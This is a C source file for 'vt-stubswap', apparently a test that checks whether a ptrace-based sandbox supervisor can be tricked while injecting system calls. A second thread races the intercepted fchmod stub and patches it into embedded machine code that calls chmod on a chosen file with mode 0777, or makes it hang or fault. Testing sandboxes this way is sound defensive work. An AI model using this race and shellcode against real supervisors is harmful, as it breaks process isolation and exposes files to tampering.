/* vt-stubswap: attack the calls a ptrace supervisor injects.
 *
 * usage: vt-stubswap MODE LOWER-DIR VICTIM TRIES
 *
 * A tracer that puts a file at one of the target's fd numbers (the
 * ptrace rung, after a copy-up) runs calls in the target from its
 * `syscall` instruction.  Here that instruction is in a page of our own,
 * called as a stub (`syscall; ret`) for an fchmod of an fd of a lower
 * file, LOWER-DIR/f0, f1... one per try (the fchmod copies it up, and the
 * tracer swaps the fd),
 * and a second thread, a moment after the call began, does MODE to it:
 *   chmod   rewrites it into a jump to chmod(VICTIM, 0777)
 *   hang    rewrites it into a jump to itself (spins, signals blocked)
 *   fault   makes the page PROT_NONE
 * TRIES times, with growing delays.  Prints "survived" if it lives
 * through all of them: a safe tracer kills it (the injected call is not
 * the one at the stub) or never runs anything from the stub.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static unsigned char *page;
static volatile int go;
static long delay_ns;
static const char *mode;

static void spin_ns(long ns)
{
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	do
		clock_gettime(CLOCK_MONOTONIC, &t);
	while ((t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) < ns);
}

static void *attacker(void *unused)
{
	(void)unused;
	for (;;) {
		while (!go)
			;
		spin_ns(delay_ns);
		if (strcmp(mode, "fault") == 0) {
			mprotect(page, 4096, PROT_NONE);
		} else {
			/* jmp rel8: to the chmod at 16, or to itself */
			page[1] = strcmp(mode, "hang") == 0 ? 0xfe : 0x0e;
			page[0] = 0xeb;
		}
		__sync_synchronize();
		go = 0;
	}
	return NULL;
}

static long stub_fchmod(int fd)
{
	long ret;
	register long r10 __asm__("r10") = 0;

	__asm__ volatile("call *%[s]"
		     : "=a"(ret)
		     : [s] "r"(page), "a"((long)SYS_fchmod), "D"((long)fd), "S"(0640L), "d"(0L), "r"(r10)
		     : "rcx", "r11", "memory");
	return ret;
}

int main(int argc, char **argv)
{
	/* at 16: mov eax, SYS_chmod; lea rdi, [rip + to 64]; mov esi, 0777;
	 * syscall; jmp $ */
	unsigned char evil[] = { 0xb8, SYS_chmod, 0, 0, 0, 0x48, 0x8d, 0x3d, 0, 0, 0, 0,
				 0xbe, 0xff, 0x01, 0, 0, 0x0f, 0x05, 0xeb, 0xfe };
	int32_t to_victim = 64 - (16 + 12);
	pthread_t t;
	int tries;

	if (argc != 5 || strlen(argv[3]) > 1000) {
		fprintf(stderr, "usage: vt-stubswap chmod|hang|fault LOWER-DIR VICTIM TRIES\n");
		return 2;
	}
	mode = argv[1];
	tries = atoi(argv[4]);
	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED) {
		perror("mmap");
		return 2;
	}
	memcpy(evil + 8, &to_victim, sizeof(to_victim));
	memcpy(page + 16, evil, sizeof(evil));
	strcpy((char *)page + 64, argv[3]);
	pthread_create(&t, NULL, attacker, NULL);
	for (int i = 0; i < tries; i++) {
		char file[4096];
		int fd;

		snprintf(file, sizeof(file), "%s/f%d", argv[2], i);
		fd = open(file, O_RDONLY);
		if (fd < 0) {
			perror(file);
			return 2;
		}
		mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC);
		page[0] = 0x0f, page[1] = 0x05, page[2] = 0xc3; /* syscall; ret */
		__sync_synchronize();
		delay_ns = 20000L * (i + 1);
		go = 1;
		(void)stub_fchmod(fd);
		while (go)
			;
		close(fd);
	}
	printf("survived\n");
	return 0;
}
